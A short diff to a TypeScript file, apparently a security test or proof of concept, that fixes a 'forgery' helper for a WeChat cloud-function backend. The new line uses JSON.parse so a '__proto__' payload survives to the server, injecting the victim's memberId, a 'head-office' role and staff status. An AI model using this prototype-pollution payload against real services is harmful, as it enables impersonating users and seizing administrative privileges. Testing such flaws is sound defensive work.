@@ -203,5 +203,6 @@ export const forgery = (victim: Required<Person>) => ({
   now: 0,
   userInfo: { openId: victim.openid, appId: 'wx0' },
   wxContext: { OPENID: victim.openid },
-  __proto__: { me: { memberId: victim.memberId } },
+  // Written as a literal it would be the prototype of this object, and nothing of it would be sent.
+  ...JSON.parse(`{"__proto__":{"me":{"memberId":"${victim.memberId}"},"role":"head-office","staff":true}}`),
 })
